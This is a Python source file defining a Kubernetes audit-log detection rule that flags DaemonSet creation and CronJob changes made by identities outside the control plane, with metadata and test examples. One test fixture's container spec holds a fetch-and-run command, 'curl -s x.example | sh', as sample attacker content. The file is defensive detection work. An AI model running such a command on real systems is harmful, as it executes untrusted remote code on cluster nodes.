"""DaemonSet created, or CronJob created or changed, by someone other than the control plane: the two workload
kinds that keep running code by themselves, on every node or on a schedule."""

from typing import Any

from vigil.detections.k8s import CONTROL_PLANE, identity_in, workload_object_images
from vigil.detections.sdk import EventDetection, Example
from vigil.event import Event
from vigil.sources.audit.fixtures import audit_record, workload_object

#: (resource, API group) → the verbs that matter: a DaemonSet matters when it appears (its updates are rollouts);
#: a CronJob's schedule and command are changed as quietly as they are created.
WATCHED = {
    ("daemonsets", "apps"): frozenset({"create"}),
    ("cronjobs", "batch"): frozenset({"create", "update", "patch"}),
}


def is_persistent_workload_change(event: Event) -> bool:
    target = event.target
    verbs = WATCHED.get((target.resource, target.api_group))
    return (
        verbs is not None
        and event.action in verbs
        and not target.subresource
        and event.outcome.result != "denied"
        and not identity_in(event.actor.user, CONTROL_PLANE)
    )


def change_context(event: Event) -> dict[str, Any]:
    return {"images": workload_object_images(event)}


_SPEC = {"containers": [{"name": "c", "image": "alpine:3.20", "command": ["sh", "-c", "curl -s x.example | sh"]}]}

DETECTION = EventDetection(
    id="k8s.persistent_workload_changed",
    title="DaemonSet created or CronJob created or changed",
    alert_title="{user} {verb} {resource} {namespace}/{name}",
    description=(
        "A DaemonSet was created, or a CronJob created, updated or patched, by an identity that is not a "
        "control-plane component. A DaemonSet runs its pod on every node (a miner or a node backdoor in one "
        "request); a CronJob brings its command back on a schedule after the pod that ran it is gone. Both are "
        "how attackers persist and spread, and both are ordinary deployment work, which is why this is low: "
        "read it with who made the change and the images it runs."
    ),
    severity="low",
    mitre=["T1053.007", "T1610", "T1543"],
    tags=["kubernetes", "persistence", "execution"],
    references=[
        "https://microsoft.github.io/Threat-Matrix-for-Kubernetes/techniques/Kubernetes%20cronjob/",
        "https://attack.mitre.org/techniques/T1053/007/",
    ],
    false_positives=["Deployment pipelines and administrators installing agents or scheduled jobs."],
    kinds=["k8s.api"],
    resources=["daemonsets", "cronjobs"], actions=["create", "update", "patch"], subresources=[""],
    match=is_persistent_workload_change,
    context=change_context,
    dedup="{cluster}/{namespace}/{resource}/{name}",
    examples=[
        Example(name="a DaemonSet created by a person", source="k8s-audit", fires=True,
                record=audit_record("create", "daemonsets", name="node-helper", namespace="default", api_group="apps",
                                    request_object=workload_object("DaemonSet", "node-helper", _SPEC))),
        Example(name="a CronJob patched by a workload's token", source="k8s-audit", fires=True,
                record=audit_record("patch", "cronjobs", name="backup", namespace="shop", api_group="batch",
                                    user="system:serviceaccount:shop:web")),
        Example(name="a DaemonSet rolled out (update)", source="k8s-audit", fires=False,
                record=audit_record("update", "daemonsets", name="fluent-bit", namespace="logging", api_group="apps")),
        Example(name="the CronJob controller updating its status", source="k8s-audit", fires=False,
                record=audit_record("update", "cronjobs", name="backup", namespace="shop", api_group="batch",
                                    subresource="status",
                                    user="system:serviceaccount:kube-system:cronjob-controller")),
        Example(name="refused", source="k8s-audit", fires=False,
                record=audit_record("create", "daemonsets", name="x", namespace="default", api_group="apps",
                                    code=403)),
    ],
)
